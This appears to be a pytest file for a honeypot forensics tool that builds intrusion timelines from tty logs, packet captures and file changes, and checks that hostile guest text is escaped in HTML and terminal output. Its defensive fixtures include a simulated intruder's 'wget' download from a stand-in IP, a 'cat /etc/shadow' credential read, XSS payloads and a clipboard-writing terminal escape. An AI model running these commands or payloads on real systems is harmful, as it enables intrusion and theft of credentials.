"""Issue 16, part 1 without a guest: the timeline builder on fixture data (tty-log records
made by hand, line logs, flows from a pcap written with dpkt, file changes, events), its
text and HTML output with hostile guest text, replay offsets, and the readers on a home's
real session-log files.
"""

import html
import io
import json
import socket
import subprocess
import sys
import time
from pathlib import Path

import dpkt
import pytest

from tests.support import ttylog_vectors as tv
from tests.support.logwriter import finish
from warden.console import logstore, replay
from warden.console import search as searchmod
from warden.console import sessionlog as sl
from warden.console.logwriter import GuestUsage, LogWriter, SessionLog
from warden.disk import debugfs
from warden.forensics import flows, render, sources
from warden.forensics import timeline as tl
from warden.paths import Layout

T0 = 1_700_000_000_000_000  # µs


def rec(rtype: int, t_us: int, payload: bytes, seq: int = 0) -> sl.Record:
    return sl.Record(rtype, seq, t_us, payload, 0, b"")


def tty_records(raws: list[bytes], t0: int = T0, step: int = 1000) -> list[sl.Record]:
    """Kernel records as the session log stores them: one TTYLOG record each, timed."""
    return [rec(sl.TTYLOG, t0 + i * step, r, i + 1) for i, r in enumerate(raws)]


def ssh_login(typed: bytes) -> list[bytes]:
    """An ssh login: sshd opens ptm0/pts0, bash runs as a login shell on pts0 (uid 1000),
    the intruder types `typed` (then Enter), wget runs, the session ends."""
    return [
        tv.open_rec(1, 1, "ptm0", tv.PTY, tv.MASTER, link=2, uid=0),
        tv.open_rec(2, 2, "pts0", tv.PTY, tv.SLAVE, link=1, uid=0),
        tv.exec_rec(3, 2, [b"-bash"], b"/bin/bash", pid=300),
        *[tv.data_rec(4 + i, 1, tv.WRITE, typed[i : i + 1]) for i in range(len(typed))],
        tv.data_rec(4 + len(typed), 1, tv.WRITE, b"\r"),
        tv.exec_rec(5 + len(typed), 2, [b"wget", b"http://203.0.113.9/x"], pid=301),
        tv.exec_rec(6 + len(typed), 0, [b"/usr/sbin/cron", b"-f"], pid=5, uid=0),
        tv.record(tv.CLOSE, 7 + len(typed), tty=2),
        tv.record(tv.CLOSE, 8 + len(typed), tty=1),
    ]


def test_an_ssh_login_in_the_tty_log_is_a_session_its_keystrokes_a_line_its_programs_execs() -> (
    None
):
    log = tl.LineLog("pot", "tty", 3, tty_records(ssh_login(b"wgek\x7ft x")))
    entries = tl.from_tty_log(log)
    kinds = [(e.kind, e.fields.get("action")) for e in entries]
    assert kinds == [
        ("session", "open"),
        ("exec", None),
        ("session", "login"),
        ("input", None),
        ("exec", None),
        ("exec", None),
        ("session", "close"),
    ]
    opened, bash, login, typed, wget, cron, closed = entries
    assert opened.fields["session"] == "pts0" and opened.fields["tty"] == 1
    assert login.fields["uid"] == 1000 and login.fields["shell"] == "-bash"
    # the line as keystrokes came (DEL kept raw), its start's offset from the log's first record
    assert typed.fields["raw"] == "wgek\x7ft x" and typed.fields["complete"] is True
    assert typed.fields["offset"] == "0.003000" and typed.time_us == T0 + 3000
    assert typed.fields["replay"] == "warden replay pot:tty --boot 3 --tty 1 --at 0.003000"
    assert wget.fields["argv"] == ["wget", "http://203.0.113.9/x"]
    assert wget.fields["session"] == "pts0" and wget.fields["uid"] == 1000
    assert wget.fields["offset"] == replay.replay_offset(wget.time_us, T0)
    assert cron.fields["session"] is None and "tty" not in cron.fields
    assert cron.fields["replay"] == f"warden replay pot:tty --boot 3 --at {cron.fields['offset']}"
    assert closed.fields == closed.fields | {"login": True, "uid": 1000, "session": "pts0"}
    assert bash.fields["argv"] == ["-bash"]


def test_a_replay_at_an_entrys_offset_starts_at_that_very_record() -> None:
    records = tty_records(ssh_login(b"id"), step=333_333)
    entries = tl.from_tty_log(tl.LineLog("pot", "tty", 1, records))
    wget = next(e for e in entries if e.kind == "exec" and e.fields["argv"][0] == "wget")
    start = replay.parse_time(wget.fields["offset"], "--at")
    steps = list(replay.schedule(records, start=start, max_idle=None, events=True))
    timed = [s for s in steps if s.delay > 0]
    assert timed, "nothing played with timing after --at"
    # every step before the entry's record was written at once, the first timed one is after
    first_timed = steps.index(timed[0])
    assert all(s.at < (wget.time_us - T0) / 1e6 for s in steps[:first_timed] if not s.note)
    assert b"exec wget" in b"".join(s.data for s in steps[first_timed - 1 : first_timed + 1])


def test_console_input_is_a_line_with_who_typed_it_and_attach_detach_are_sessions() -> None:
    records = [
        rec(sl.EVENT, T0, sl.event_payload("open", {"daemon_pid": 1}), 1),
        rec(
            sl.EVENT,
            T0 + 10,
            sl.event_payload("attach", {"user": "alice", "source": "ssh:1.2.3.4:5", "mode": "rw"}),
            2,
        ),  # noqa: E501
        *[
            rec(sl.INPUT, T0 + 20 + i, sl.input_payload("alice", bytes([c])), 3 + i)
            for i, c in enumerate(b"uname -a\r")
        ],  # noqa: E501
        rec(sl.INPUT, T0 + 50, sl.input_payload("alice", b"half"), 20),
        rec(
            sl.EVENT,
            T0 + 60,
            sl.event_payload(
                "detach", {"user": "alice", "source": "ssh:1.2.3.4:5", "reason": "detached"}
            ),
            21,
        ),  # noqa: E501
    ]
    entries = tl.from_line_log(tl.LineLog("web1", "con0", 2, records))
    assert [(e.kind, e.fields.get("action"), e.fields.get("text")) for e in entries] == [
        ("session", "attach", None),
        ("input", None, "uname -a"),
        ("session", "detach", None),
        ("input", None, "half"),  # a line without Enter yet, kept at the end
    ]
    assert entries[0].fields["source"] == "ssh:1.2.3.4:5" and entries[1].fields["user"] == "alice"
    assert entries[1].fields["offset"] == "0.000020"
    assert entries[1].fields["replay"] == "warden replay web1:con0 --boot 2 --at 0.000020"
    assert entries[3].fields["complete"] is False


def test_a_typed_line_is_bounded() -> None:
    flood = [rec(sl.INPUT, T0 + i, sl.input_payload("u", b"A" * 1000), i) for i in range(10)]
    entries = tl.from_line_log(tl.LineLog("m", "con0", 1, flood))
    assert [len(e.fields["raw"]) for e in entries] == [tl.LINE_MAX, tl.LINE_MAX, 10_000 - 8192]
    assert entries[0].fields.get("cut") is True


def test_build_sorts_every_source_by_host_time_and_keeps_the_window() -> None:
    window = tl.Window(T0, T0 + 10_000_000, T0 + 10_000_000)
    files = [
        tl.FileChange(
            {"kind": "created", "path": "/tmp/x", "type": "file", "size": 3, "sha256": "ab"},
            T0 + 4_000_000,
        ),  # noqa: E501
        tl.FileChange({"kind": "deleted", "path": "/etc/motd", "type": "file"}, None),
        tl.FileChange({"kind": "modified", "path": "/etc/old", "type": "file"}, T0 - 99),
    ]
    src = tl.Sources(
        machine="pot",
        window=window,
        line_logs=[tl.LineLog("pot", "tty", 1, tty_records(ssh_login(b"x"), T0 + 1_000_000))],
        flows=[
            {
                "first_us": T0 + 2_000_000,
                "proto": "tcp",
                "src": "10.0.0.2",
                "sport": 40000,
                "dst": "203.0.113.9",
                "dport": 80,
            }
        ],  # noqa: E501
        files=files,
        events=[
            {"id": 1, "ts": (T0 + 500_000) / 1e6, "machine": "pot", "kind": "up", "pid": "7"},
            {"id": 2, "ts": (T0 + 99_000_000) / 1e6, "machine": "pot", "kind": "late"},
        ],  # noqa: E501
        memory=[
            {"t": (T0 + 3_000_000) / 1e6, "k": "act", "g": "pot", "op": "unplug", "kib": 4096},
            {"t": (T0 + 3_000_000) / 1e6, "k": "act", "g": "other", "op": "plug"},
        ],  # noqa: E501
    )
    entries = tl.build(src)
    assert [e.time_us for e in entries] == sorted(e.time_us for e in entries)
    kinds = {e.kind for e in entries}
    assert kinds == {"session", "input", "exec", "flow", "file", "event"}
    events = [e.fields["event"] for e in entries if e.kind == "event"]
    assert events == ["up", "memory-unplug"]  # the late event is outside; the other guest's
    by_path = {e.fields["path"]: e for e in entries if e.kind == "file"}
    assert by_path["/tmp/x"].time_us == T0 + 4_000_000
    assert by_path["/tmp/x"].fields["time_source"] == "guest-ctime"
    # no ctime (deleted) or one outside the window (a guest clock set back): when it was read
    for p in ("/etc/motd", "/etc/old"):
        assert by_path[p].time_us == window.observed_us
        assert by_path[p].fields["time_source"] == "observed"
    assert by_path["/etc/old"].fields["guest_ctime"] == tl.iso(T0 - 99)
    doc = [e.as_json() for e in entries]
    assert all({"time", "kind", "time_us"} <= d.keys() for d in doc)
    assert doc[0]["time"].endswith("Z") and json.loads(json.dumps(doc)) == doc


PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "div", "input", "label"}
PAGE_TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "br", "code", "details", "summary", "b"}


def _tags(page: str) -> list[tuple[str, list[str]]]:
    from html.parser import HTMLParser

    found: list[tuple[str, list[str]]] = []

    class P(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, [a for a, _ in attrs]))

    P().feed(page)
    return found


HOSTILE = b"<script>alert(1)</script>\x1b]52;c;cHduZWQ=\x07"


def test_guest_text_is_escaped_in_the_page_and_on_the_terminal() -> None:
    raws = ssh_login(HOSTILE)
    raws.insert(3, tv.exec_rec(3, 2, [b"-bash", b"<img src=x onerror=alert(2)>"], b"/bin/bash"))
    entries = tl.build(
        tl.Sources("pot", tl.Window(0, 2**62, 0), [tl.LineLog("pot", "tty", 1, tty_records(raws))])
    )
    page = render.html_page(entries, {"machine": "pot", "scope": "boot 1", "counts": {}})
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "default-src 'none'" in page  # nothing may load or run even if something slipped
    tags = _tags(page)  # what a browser would build: only the page's own, no loads
    assert {t for t, _ in tags} <= PAGE_TAGS, {t for t, _ in tags} - PAGE_TAGS
    assert not [a for _, attrs in tags for a in attrs if a in ("src", "href") or a.startswith("on")]
    text = "\n".join(render.text_lines(entries))
    assert "\x1b" not in text and "\x07" not in text and "<script>alert(1)</script>" in text
    assert "\x1b" not in page and "\\x1b]52;c;" in page  # the raw keystrokes, made visible


def pcap_bytes(packets: list[tuple[float, bytes]]) -> bytes:
    buf = io.BytesIO()
    w = dpkt.pcap.Writer(buf)
    for ts, frame in packets:
        w.writepkt(frame, ts=ts)
    return buf.getvalue()


def frame(src: str, dst: str, l4: dpkt.Packet, proto: int) -> bytes:
    ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=socket.inet_aton(dst), p=proto, data=l4)
    ip.len = len(bytes(ip))
    eth = dpkt.ethernet.Ethernet(src=b"\x02" * 6, dst=b"\x04" * 6, type=0x0800, data=ip)
    return bytes(eth)


def tcp(sport: int, dport: int, flags: int, data: bytes = b"") -> dpkt.tcp.TCP:
    return dpkt.tcp.TCP(sport=sport, dport=dport, flags=flags, data=data, off=5)


def test_flows_from_a_capture_five_tuple_bytes_both_ways_and_dns_names(tmp_path: Path) -> None:
    g, out = "10.78.0.10", "192.168.250.2"
    q = dpkt.dns.DNS(id=7, qd=[dpkt.dns.DNS.Q(name="evil.example", type=1, cls=1)])
    S, A, F = dpkt.tcp.TH_SYN, dpkt.tcp.TH_ACK, dpkt.tcp.TH_FIN
    packets = [
        (1000.0, frame(g, "10.78.0.1", dpkt.udp.UDP(sport=5353, dport=53, data=bytes(q)), 17)),
        (1001.0, frame(g, out, tcp(40000, 80, S), 6)),
        (1001.1, frame(out, g, tcp(80, 40000, S | A), 6)),
        (1001.2, frame(g, out, tcp(40000, 80, A, b"GET / HTTP/1.0\r\n\r\n"), 6)),
        (1001.3, frame(out, g, tcp(80, 40000, A | F, b"x" * 500), 6)),
        (1001.4, frame(g, out, tcp(40000, 80, A | F), 6)),
        (1002.0, frame(out, g, tcp(5555, 22, S), 6)),  # someone connects to the guest
    ]
    data = pcap_bytes(packets)
    (tmp_path / "boot-0001-eth0.pcap0").write_bytes(data + b"\x01\x02\x03")  # cut record
    found, totals = flows.read([tmp_path / "boot-0001-eth0.pcap0"])
    doc = [f.as_json(frozenset({g})) for f in found]
    assert [(d["proto"], d["src"], d["sport"], d["dst"], d["dport"]) for d in doc] == [
        ("udp", g, 5353, "10.78.0.1", 53),
        ("tcp", g, 40000, out, 80),
        ("tcp", out, 5555, g, 22),
    ]
    dns, web, inbound = doc
    assert dns["dns"] == ["evil.example"] and dns["direction"] == "outbound"
    assert (web["packets_out"], web["packets_in"]) == (3, 2)
    assert web["bytes_in"] == len(packets[2][1]) + len(packets[4][1])
    assert web["tcp"] == {"syn": True, "fin": 3, "rst": False}
    assert web["first_us"] == 1_001_000_000 and web["seconds"] == pytest.approx(0.4)
    assert inbound["direction"] == "inbound"
    assert totals.packets == 7 and totals.cut_files  # the cut tail is named, not fatal


def test_garbage_in_a_capture_is_counted_not_fatal(tmp_path: Path) -> None:
    p = tmp_path / "boot-0001-eth0.pcap0"
    p.write_bytes(pcap_bytes([(1.0, b"\xff" * 7), (2.0, bytes(60))]))
    found, totals = flows.read([p])
    assert found == [] and totals.packets == 2 and totals.unparsed + totals.not_ip == 2
    q = tmp_path / "notpcap"
    q.write_bytes(b"hello")
    assert flows.read([q])[1].cut_files


def test_changes_since_a_snapshot_leave_out_what_the_snapshot_had() -> None:
    def fc(kind: str, path: str, sha: str | None = None) -> tl.FileChange:
        return tl.FileChange({"kind": kind, "path": path, "type": "file", "sha256": sha}, None)

    then = [fc("created", "/a", "1"), fc("created", "/gone", "2"), fc("modified", "/etc/x", "3")]
    then.append(fc("created", "/c", "6"))
    now = [fc("created", "/a", "1"), fc("created", "/b", "4"), fc("modified", "/etc/x", "5")]
    now.append(fc("created", "/c", "7"))
    got = {(c.change["kind"], c.change["path"]) for c in sources.since_snapshot(now, then)}
    assert got == {
        ("created", "/b"),
        ("modified", "/etc/x"),
        ("deleted", "/gone"),
        ("modified", "/c"),
    }


def test_debugfs_stat_gives_the_change_time() -> None:
    out = (
        b"Inode: 12   Type: regular    Mode:  0644   Flags: 0x80000\n"
        b"Generation: 1    Version: 0x00000000:00000001\n"
        b"User:     0   Group:     0   Project:     0   Size: 5\n"
        b"File ACL: 0\n"
        b"Links: 1   Blockcount: 8\n"
        b"Fragment:  Address: 0    Number: 0    Size: 0\n"
        b" ctime: 0x65700000:0000000c -- Wed Dec  6 00:00:00 2023\n"
        b" atime: 0x65700000:00000000 -- Wed Dec  6 00:00:00 2023\n"
        b" mtime: 0x65600000:00000000 -- Fri Nov 24 00:00:00 2023\n"
    )
    info = debugfs.parse_stat(out, "test")
    assert info.ctime_ns == 0x65700000 * 1_000_000_000 + 3  # extra: ns << 2
    assert info.mtime == (0x65600000, 0)


# ---- the readers, on a home's real files ---------------------------------------------------
def write_logs(lay: Layout, boot: int = 1) -> None:
    key = logstore.load_key(lay, create=True)
    w = LogWriter(key, lay.machines)
    usage = GuestUsage(lay.machine("pot") / "logs", 1 << 30)
    con = SessionLog(w, "pot", "con0", boot, False, lambda: usage)
    tty = SessionLog(w, "pot", "tty", boot, False, lambda: usage)

    now = time.time_ns() // 1000 - 200_000  # records a kernel made before they were stored
    for i, raw in enumerate(ssh_login(b"cat /etc/shadow")):
        tty.record(sl.TTYLOG, raw, now + i * 1000)
    con.event("attach", user="alice", source="local", mode="rw")
    con.input(b"reboot\r", "alice")
    con.event("boot-end", reason="kernel exited with status 0")
    tty.event("boot-end", reason="kernel exited with status 0")
    con.close()
    tty.close()
    finish(w)


def test_the_readers_find_a_boots_logs_and_search_gives_the_timelines_offset(home: Layout) -> None:
    write_logs(home)
    notes: list[tl.Entry] = []
    logs = sources.line_logs(home, "pot", 1, notes)
    assert [log.line for log in logs] == ["con0", "tty"] and notes == []
    entries = tl.from_tty_log(logs[1])
    typed = next(e for e in entries if e.kind == "input")
    assert typed.fields["text"] == "cat /etc/shadow"
    key = logstore.load_key(home)
    ref = logstore.find(home, "pot", "tty", 1)[0]
    hits = list(searchmod.search_file(ref, key, b"cat /etc/shadow", printed=False, executed=False))
    assert [h.offset for h in hits] == [typed.fields["offset"]]
    r = subprocess.run(
        [sys.executable, "-m", "warden", "logs", "search", "cat /etc/shadow", "--json"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert [h["offset"] for h in json.loads(r.stdout)] == [typed.fields["offset"]], r.stderr
    # `replay --at` takes that offset
    r = subprocess.run(
        [sys.executable, "-m", "warden", "replay", "pot:tty", "--at", typed.fields["offset"],
         "--speed", "1000", "--events"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 0 and "exec wget" in r.stdout, r.stderr
    r = subprocess.run(
        [sys.executable, "-m", "warden", "replay", "pot:tty", "--at", "x", "--from", "1"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 2 and "--from or --at, not both" in r.stderr


def test_timeline_without_a_daemon_reads_the_files(home: Layout) -> None:
    write_logs(home)
    from warden.store import Store

    Store(home.db).close()
    r = subprocess.run(
        [sys.executable, "-m", "warden", "timeline", "pot", "--json"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    kinds = [d["kind"] for d in doc]
    assert {"session", "input", "exec"} <= set(kinds)
    assert any(d["kind"] == "input" and d["text"] == "reboot" and d["user"] == "alice" for d in doc)
    notes = [d["text"] for d in doc if d.get("event") == "note"]
    assert any("no disk" in n for n in notes), notes  # said, not silently left out
    page = home.home / "t.html"
    r = subprocess.run(
        [sys.executable, "-m", "warden", "timeline", "pot", "--html", str(page)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 0 and "cat /etc/shadow" in html.unescape(page.read_text())
    r = subprocess.run(
        [sys.executable, "-m", "warden", "timeline", "pot", "--boot", "9"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 2 and "no logs of boot 9 (boots with logs: 1)" in r.stderr
